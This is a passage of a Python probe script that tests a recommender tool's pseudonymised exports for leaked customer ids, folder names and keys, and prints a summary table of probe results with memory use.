    pseudo = Pseudonyms.for_scope(scope_of(model.user_ids_))
    for name in ("lists.csv", "lists.xlsx"):
        export_lists(model, out / name, 10, ds.catalog, pseudonyms=pseudo, customers=sp.test.user_ids)
    model.save(d / "model")
    res = cli("export", "--model-dir", d / "model", "--out", out / "cli.csv", "--pseudonymise", "--customers",
              d / "orders.csv")
    keys = [p.read_bytes().strip() for p in key_dir().glob("*.key")]
    return {"files": sorted(p.name for p in out.iterdir()), "cli": res["rc"], "keys": [k.decode() for k in keys],
            "scope": scope}


def probe_pseudonyms(work: Path) -> ClassResult:
    res = ClassResult("pseudonymisation")
    d = work / "pseudo client files"
    d.mkdir()
    write_shop(d)
    o = isolated(_pseudonymised_files, str(d), timeout=900)
    if (p := _outcome_problem(o)) or "error" in o.value:
        res.add("share copy and exports", p or f"{o.value.get('error')}: {o.value.get('msg', '')[:140]}", o.rss_mb)
        return res
    v = o.value
    needles = [c.encode() for c in CUSTOMERS] + [str(d).encode(), b"pseudo client files", b"Kundin",
                                                  "Müller".encode()] + [k.encode() for k in v["keys"]]
    for name in v["files"]:
        raw = (d / "shared" / name).read_bytes()
        if name.endswith(".xlsx"):
            with zipfile.ZipFile(d / "shared" / name) as z:
                raw = b"".join(z.read(n) for n in z.namelist())
        for needle in needles:
            found = needle in raw or needle.decode().encode("utf-16-le") in raw
            res.add(f"{name} / {needle[:24]!r}", f"holds {needle[:40]!r}" if found else None)
    if v["cli"] != 0:
        res.failures.append(f"recscope export --pseudonymise exit status {v['cli']}")
    res.rss_mb = o.rss_mb
    res.note = (f"{len(v['files'])} files ({', '.join(v['files'])}) x {len(needles)} needles (120 customer ids, "
                f"the client folder's path and name, the key)")
    return res


# ======================================================================================================
PROBES = {"data": probe_data, "cancel": probe_cancel, "project": probe_projects, "kill": probe_kills,
          "writers": probe_two_writers, "disk": probe_disk,
          "injection": probe_injection, "pseudonyms": probe_pseudonyms}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--only", help="comma-separated probe names: " + ",".join(PROBES))
    ap.add_argument("--keep", help="work in this folder and keep it")
    args = ap.parse_args()
    names = args.only.split(",") if args.only else list(PROBES)
    work = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="probe21-"))
    work.mkdir(parents=True, exist_ok=True)
    os.environ.setdefault("RECSCOPE_KEY_DIR", str(work / "keys"))
    os.environ.setdefault("RECSCOPE_LOG_DIR", str(work / "logs"))
    base_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    results = []
    t0 = time.monotonic()
    for name in names:
        t = time.monotonic()
        try:
            results.append(PROBES[name](work))
        except Exception as e:  # noqa: BLE001 - a fault of the probe itself: shown, the other classes still run
            failed = ClassResult(name)
            failed.add("the probe itself", f"{type(e).__name__}: {e}")
            results.append(failed)
        print(f"[{name}: {time.monotonic() - t:.0f} s]", file=sys.stderr, flush=True)
    print(f"\nprobe process RSS before the children: {base_rss:.0f} MB (a forked child starts sharing it); "
          f"total {time.monotonic() - t0:.0f} s\n")
    print("| class | inputs | handled cleanly | failed | peak RSS of a child (MB) |")
    print("|---|---:|---:|---:|---:|")
    for r in results:
        print(f"| {r.name} | {r.inputs} | {r.clean} | {len(r.failures)} | {r.rss_mb:,.0f} |")
    for r in results:
        if r.note:
            print(f"\n{r.name}: {r.note}")
        for f in r.failures:
            print(f"  FAILED {r.name}: {f}")
    if not args.keep:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
